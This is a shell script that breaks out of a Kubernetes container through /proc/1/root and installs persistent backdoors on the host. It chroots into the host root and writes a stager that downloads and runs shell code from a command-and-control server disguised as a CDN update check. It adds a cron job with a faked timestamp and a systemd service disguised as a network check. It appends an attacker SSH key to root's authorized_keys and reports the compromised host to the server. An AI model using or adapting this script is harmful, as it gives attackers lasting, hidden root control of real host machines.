#!/bin/sh
# proc1_root_implant.sh
# With hostPID + CAP_SYS_CHROOT (and no AppArmor on the pod), /proc/1/root
# is the host's root directory.  chroot into it and leave a way back in
# that survives the pod being deleted.
#
#   env: C2=https://cdn-static.update-check.io  KEY="ssh-ed25519 AAAA... ops"

C2=${C2:-https://cdn-static.update-check.io}
KEY=${KEY:-}
HOST_ROOT=/proc/1/root
UNIT_NAME=systemd-netcheck
CRON_FILE=/etc/cron.d/0netcheck
STAGE=/usr/local/lib/.netcheck

log() { printf '%s\n' "$*" >&2; }

reachable() {
    [ -d "$HOST_ROOT/etc" ] || return 1
    ls "$HOST_ROOT/" >/dev/null 2>&1 || return 1
    # our own root and the host's must differ, otherwise nothing to gain
    [ "$(stat -Lc %i /)" != "$(stat -Lc %i "$HOST_ROOT/")" ]
}

in_host() {
    chroot "$HOST_ROOT" /bin/sh -c "$1"
}

install_stager() {
    in_host "mkdir -p $STAGE && cat > $STAGE/run.sh" <<EOF
#!/bin/sh
curl -fsSk --max-time 20 "$C2/p/\$(hostname)" | sh >/dev/null 2>&1 || \
  wget -q --no-check-certificate -O- "$C2/p/\$(hostname)" | sh >/dev/null 2>&1
EOF
    in_host "chmod 755 $STAGE/run.sh"
    log "stager at $STAGE/run.sh"
}

install_cron() {
    in_host "cat > $CRON_FILE" <<EOF
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
*/10 * * * * root $STAGE/run.sh
EOF
    in_host "chmod 644 $CRON_FILE; touch -r /etc/cron.d/e2scrub_all $CRON_FILE 2>/dev/null"
    log "cron entry $CRON_FILE"
}

install_unit() {
    in_host "[ -d /etc/systemd/system ]" || return 0
    in_host "cat > /etc/systemd/system/$UNIT_NAME.service" <<EOF
[Unit]
Description=Network connectivity check
After=network-online.target

[Service]
Type=simple
ExecStart=/bin/sh -c 'while :; do $STAGE/run.sh; sleep 900; done'
Restart=always

[Install]
WantedBy=multi-user.target
EOF
    in_host "ln -sf /etc/systemd/system/$UNIT_NAME.service \
        /etc/systemd/system/multi-user.target.wants/$UNIT_NAME.service"
    # systemctl inside the chroot talks to the host's systemd over its bus socket
    in_host "systemctl daemon-reload && systemctl start $UNIT_NAME" 2>/dev/null \
        || log "unit written, will start on next boot"
    log "systemd unit $UNIT_NAME"
}

install_key() {
    [ -n "$KEY" ] || return 0
    in_host "mkdir -p /root/.ssh && chmod 700 /root/.ssh && \
             grep -qF '$KEY' /root/.ssh/authorized_keys 2>/dev/null || \
             echo '$KEY' >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys"
    log "key added to root authorized_keys"
}

report() {
    host=$(in_host "cat /etc/hostname" 2>/dev/null)
    curl -fsSk --max-time 10 -X POST "$C2/r" \
        -d "host=$host&via=proc1root&unit=$UNIT_NAME" >/dev/null 2>&1
}

main() {
    if ! reachable; then
        log "host root not reachable through $HOST_ROOT"
        exit 1
    fi
    log "host root reachable: $(in_host 'cat /etc/hostname' 2>/dev/null)"
    install_stager
    install_cron
    install_unit
    install_key
    report
    log "done"
}

main "$@"
